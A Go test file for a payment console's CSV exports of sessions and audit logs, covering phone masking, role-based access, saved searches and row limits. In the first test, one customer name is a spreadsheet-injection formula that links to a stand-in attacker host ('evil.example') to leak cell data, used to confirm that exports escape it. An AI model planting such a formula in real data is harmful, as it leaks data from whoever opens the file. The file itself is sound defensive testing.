package console_test

import (
	"encoding/csv"
	"fmt"
	"html"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"till/flow"
	"till/flow/store"
)

// table reads an answer as a file of rows: each by the names of its columns.
func (w *world) table(r reply) []map[string]string {
	w.t.Helper()
	w.wants(r, http.StatusOK)
	if kind := r.header.Get("Content-Type"); kind != "text/csv; charset=utf-8" || !strings.HasPrefix(r.header.Get("Content-Disposition"), "attachment;") || r.header.Get("Cache-Control") != "no-store" {
		w.t.Errorf("it is no file: %v", r.header)
	}
	all, err := csv.NewReader(strings.NewReader(r.body)).ReadAll()
	if err != nil || len(all) == 0 {
		w.t.Fatalf("%v: %s", err, r.body)
	}
	out := make([]map[string]string, 0, len(all)-1)
	for _, row := range all[1:] {
		one := map[string]string{}
		for i, name := range all[0] {
			one[name] = row[i]
		}
		out = append(out, one)
	}
	return out
}

func TestWhatIsFoundIsTakenAwayAsAFile(t *testing.T) {
	w := open(t)
	formula := `=HYPERLINK("http://evil.example?"&A1,"click")`
	first := w.opened(w.ada, `,"customerName":`+fmt.Sprintf("%q", formula)+`,"customerPhone":"08031234567","reference":"-A1182","description":"+two, \"quoted\""`)
	for range 210 { // more than are read at once
		w.opened(w.ada, "")
	}
	stranger := w.merchant("Bola Stores")
	foreign := w.opened(stranger, "")
	support := w.as(flow.RoleSupport)
	w.wants(support.get("/sessions"), http.StatusOK, `href="/sessions.csv?"`, "bin/till sessions list --limit 10000<")
	w.wants(support.get("/sessions?status=PENDING"), http.StatusOK, "bin/till sessions list --limit 10000 --status PENDING<")
	if got := support.get("/sessions?q=ada@example.com"); !strings.Contains(got.body, "All of them as a file") || strings.Contains(got.body, "sessions list") {
		t.Errorf("the command line is said to list what was searched for: %s", got.main())
	}
	rows := w.table(support.get("/sessions.csv"))
	if len(rows) != 211 {
		t.Fatalf("%d rows", len(rows))
	}
	ids := map[string]bool{}
	for _, row := range rows {
		ids[row["session"]] = true
	}
	if len(ids) != 211 || ids[foreign] {
		t.Errorf("%d sessions, another merchant's %v", len(ids), ids[foreign])
	}
	got := rows[slices.IndexFunc(rows, func(row map[string]string) bool { return row["session"] == first })]
	for column, want := range map[string]string{
		"session": first, "customer": "'" + formula, "reference": "'-A1182", "description": "'+two, \"quoted\"", "phone": "234•••••4567", "amount_naira": "5000.00",
		"amount_kobo": "500000", "paid_naira": "0.00", "paid_kobo": "0", "paid_at": "", "status": "PENDING", "project": "Ada Stores", "currency": "NGN",
	} {
		if got[column] != want {
			t.Errorf("%s is %q, not %q", column, got[column], want)
		}
	}
	if body := support.get("/sessions.csv").body; strings.Contains(body, "8031234567") {
		t.Error("it holds a whole phone number")
	}
	if rows := w.table(support.get("/sessions.csv?status=PAID")); len(rows) != 0 {
		t.Errorf("of none that is paid: %v", rows)
	}
	if rows := w.table(support.get("/sessions.csv?q=" + url.QueryEscape("08031234567"))); len(rows) != 1 || rows[0]["session"] != first {
		t.Errorf("by phone: %v", rows)
	}
	if rows := w.table(w.as(flow.RoleOperator).get("/sessions.csv")); len(rows) != 212 {
		t.Errorf("an operator gets %d rows", len(rows))
	}
	list, _, err := w.accounts.Audits(t.Context(), store.AuditFilter{Account: w.ada.account, Action: "sessions", Limit: 10})
	byPhone := func(a flow.Audited) bool { return strings.Contains(a.Reason, "phone") } // two of one millisecond stand in any order
	if err != nil || len(list) != 4 || !slices.ContainsFunc(list, byPhone) {
		t.Errorf("kept: %+v, %v", list, err)
	}
	for _, a := range list {
		if strings.Contains(a.Reason, "803123") {
			t.Errorf("the audit log holds what was searched for: %s", a.Reason)
		}
	}
}

// Beside what was paid stands all that came for a session, and what of it is gone.
func TestAFileOfSessionsTellsWhatWentBack(t *testing.T) {
	w := open(t)
	over, paid := w.money(w.ada, 520_000)
	w.wants(w.ask(http.MethodPost, "/v1/refunds", w.ada.secret, `{"paymentId":"`+string(paid.ID)+`","amount":100000}`), http.StatusCreated)
	taken, _ := w.money(w.ada, 500_000)
	first, err := w.dbs[flow.Test].Payments(t.Context(), flow.SessionID(taken))
	must(t, err)
	w.wants(w.ask(http.MethodPost, "/v1/test/bank/reversals", w.ada.secret, `{"railTransactionId":"`+first[0].RailTransactionID+`"}`), http.StatusOK)
	w.until("the bank took it back", func() bool {
		s, err := w.dbs[flow.Test].Session(t.Context(), flow.SessionID(taken))
		return err == nil && slices.Contains(s.Exceptions, flow.Reversed)
	})
	none := w.opened(w.ada, "")
	rows := map[string]map[string]string{}
	for _, row := range w.table(w.as(flow.RoleSupport).get("/sessions.csv")) {
		rows[row["session"]] = row
	}
	for session, want := range map[string]string{
		over:  "5200.00 520000 1000.00 100000 0.00 0",
		taken: "5000.00 500000 0.00 0 5000.00 500000",
		none:  "0.00 0 0.00 0 0.00 0",
	} {
		r := rows[session]
		if got := strings.Join([]string{r["came_naira"], r["came_kobo"], r["refunded_naira"], r["refunded_kobo"], r["reversed_naira"], r["reversed_kobo"]}, " "); got != want {
			t.Errorf("%s: %s, not %s", session, got, want)
		}
	}
}

func TestSearchesAreKeptByPerson(t *testing.T) {
	w := open(t)
	support, owner := w.as(flow.RoleSupport), w.as(flow.RoleOwner)
	w.wants(support.get("/sessions?q=4500&status=PAID"), http.StatusOK, "Keep this search as")
	w.wants(support.post("/filters", form("name", "<b>mine</b>", "q", "4500", "status", "PAID")), http.StatusSeeOther)
	kept := `href="/sessions?q=4500&amp;status=PAID">&lt;b&gt;mine`
	w.wants(support.get("/sessions"), http.StatusOK, kept)
	w.wants(support.post("/filters", form("name", "<b>mine</b>", "q", "4600")), http.StatusSeeOther) // the same name
	if got := support.get("/sessions"); strings.Contains(got.body, kept) || !strings.Contains(got.body, `href="/sessions?q=4600"`) {
		t.Errorf("two are kept under one name: %s", got.main())
	}
	for name, fields := range map[string]url.Values{
		"no name": form("q", "4500"), "nothing": form("name", "x"), "no status": form("name", "x", "status", "SOLD"), "a long name": form("name", strings.Repeat("x", 41), "q", "1"),
		"a long search": form("name", "x", "q", strings.Repeat("9", 201)),
	} {
		if got := support.post("/filters", fields); got.status != http.StatusBadRequest {
			t.Errorf("%s: %d", name, got.status)
		}
	}
	if got := owner.get("/sessions"); strings.Contains(got.body, "q=4600") {
		t.Error("another person has it")
	}
	w.wants(owner.post("/filters/drop", form("name", "<b>mine</b>")), http.StatusNotFound)
	for i := range flow.MaxFilters - 1 {
		w.wants(support.post("/filters", form("name", fmt.Sprint("no. ", i), "q", "1")), http.StatusSeeOther)
	}
	w.wants(support.post("/filters", form("name", "one more", "q", "1")), http.StatusBadRequest, "You keep 20 searches already")
	w.wants(support.post("/filters", form("name", "no. 0", "q", "2")), http.StatusSeeOther)
	w.wants(support.post("/filters/drop", form("name", "<b>mine</b>")), http.StatusSeeOther)
	if got := support.get("/sessions"); strings.Contains(got.body, "mine") {
		t.Error("what was dropped is shown")
	}
	w.wants(support.post("/filters", form("name", "one more", "q", "1")), http.StatusSeeOther)
}

func TestTheAuditLogIsNarrowedAndTakenAway(t *testing.T) {
	w := open(t)
	ada, bola := w.ada, w.merchant("Bola Stores")
	w.tomorrow()
	day := func(add int) string { return string(flow.DateOf(w.now()).Plus(add)) }
	keep := func(m merchant, actor, action, subject string) {
		w.t.Helper()
		must(t, w.accounts.Audit(t.Context(), flow.Audited{Actor: actor, Role: flow.RoleSupport, Account: m.account, Project: m.project.ID, Action: action, Subject: subject, Reason: "=1+1"}, true))
		w.pass(time.Second)
	}
	keep(ada, "obi@shop.test", "payment.accept", "sub-1.")
	keep(bola, "eve@shop.test", "payment.accept", "sub-2.")
	first := day(0)
	w.pass(48 * time.Hour)
	keep(ada, "obi@shop.test", "payment.send_back", "sub-3.")
	keep(ada, "uche@shop.test", "paymentlike", "sub-4.")
	operator, owner := w.as(flow.RoleOperator), w.as(flow.RoleOwner)
	for query, want := range map[string]string{
		"":                                   "sub-4. sub-3. sub-2. sub-1.",
		"action=payment":                     "sub-3. sub-2. sub-1.",
		"action=payment.accept":              "sub-2. sub-1.",
		"actor=obi%40shop.test":              "sub-3. sub-1.",
		"from=" + day(0):                     "sub-4. sub-3.",
		"until=" + first:                     "sub-2. sub-1.",
		"from=" + first + "&until=" + day(0): "sub-4. sub-3. sub-2. sub-1.",
		"from=" + day(1):                     "",
		"action=payment&until=" + first:      "sub-2. sub-1.",
	} {
		for address, shown := range map[*visitor]string{operator: want, owner: strings.ReplaceAll(strings.ReplaceAll(want, "sub-2. ", ""), "sub-2.", "")} {
			path := "/ops/audit"
			if address == owner {
				path = "/team/audit"
			}
			page := address.get(path + "?" + query)
			w.wants(page, http.StatusOK)
			var listed, filed []string
			for _, one := range []string{"sub-4.", "sub-3.", "sub-2.", "sub-1."} {
				if strings.Contains(page.body, ">"+one+"<") {
					listed = append(listed, one)
				}
			}
			for _, row := range w.table(address.get(path + ".csv?" + query)) {
				if strings.HasPrefix(row["subject"], "sub-") {
					filed = append(filed, row["subject"])
					if row["reason"] != "'=1+1" || row["at"] == "" || row["who"] == "" {
						t.Errorf("%v", row)
					}
				}
			}
			if strings.Join(listed, " ") != shown || !slices.Equal(listed, filed) {
				t.Errorf("%s?%s lists %v and files %v, not %s", path, query, listed, filed, shown)
			}
		}
	}
	w.wants(operator.get("/ops/audit?from=yesterday"), http.StatusBadRequest, "2026-08-27")
	for _, file := range []string{"", ".csv"} {
		w.wants(operator.get("/ops/audit"+file+"?from="+day(1)+"&until="+day(0)), http.StatusBadRequest, "The last day is before the first")
		w.wants(operator.get("/ops/audit"+file+"?from="+day(0)+"&until="+day(0)), http.StatusOK)
	}
	w.wants(owner.get("/team/audit?actor=nobody"), http.StatusOK, "Nothing fits.")
	// Who looked is told apart, and so is what the links of such a row lead to.
	w.wants(w.as(flow.RoleSupport).get("/sessions/"+w.opened(ada, "")), http.StatusOK)
	looked := owner.get("/team/audit?action=look")
	w.wants(looked, http.StatusOK, "look.session")
	for _, by := range []string{"actor", "subject"} {
		link := regexp.MustCompile(`href="(/team/audit\?` + by + `=[^"]+)"`).FindStringSubmatch(looked.body)
		if link == nil {
			t.Fatalf("no link by %s: %s", by, looked.main())
		}
		w.wants(owner.get(html.UnescapeString(link[1])), http.StatusOK, "look.session")
	}
	// Who takes it away stands there too.
	w.wants(owner.get("/team/audit?action=audit.export"), http.StatusOK, "audit.export", "owner of "+ada.email)
	for i := range 110 {
		keep(ada, "obi@shop.test", "payment.accept", fmt.Sprintf("more-%03d.", i))
	}
	page := w.as(flow.RoleOwner).get("/team/audit?action=payment")
	_, rest, found := strings.Cut(page.body, `<a href="/team/audit?before=`)
	if !found || strings.Contains(page.body, "more-009.") {
		t.Fatal("the first page is not the newest hundred")
	}
	next, _, _ := strings.Cut(rest, `"`)
	w.wants(w.as(flow.RoleOwner).get("/team/audit?before="+strings.ReplaceAll(next, "&amp;", "&")), http.StatusOK, "more-009.", "more-000.", "sub-1.")
}

func TestAFileOfRowsIsBoundedAndSaysSo(t *testing.T) {
	w := open(t)
	must(t, w.people.Update(t.Context(), func(tx *store.Tx) error {
		for i := range 10_001 {
			a := flow.Audited{ID: fmt.Sprintf("aud_%05d", i), At: w.now(), Actor: "obi", Role: flow.RoleSupport, Account: w.ada.account, Action: "x.y", Subject: fmt.Sprint(i)}
			if err := tx.AddAudit(t.Context(), a); err != nil {
				return err
			}
		}
		return nil
	}))
	rows := w.table(w.as(flow.RoleOwner).get("/team/audit.csv?action=x"))
	if len(rows) != 10_001 || rows[0]["subject"] != "10000" || rows[9_999]["subject"] != "1" || !strings.HasPrefix(rows[10_000]["at"], "cut after 10000 rows: narrow the search, or read all over REST") {
		t.Errorf("%d rows, which end with %v", len(rows), rows[len(rows)-1])
	}
}
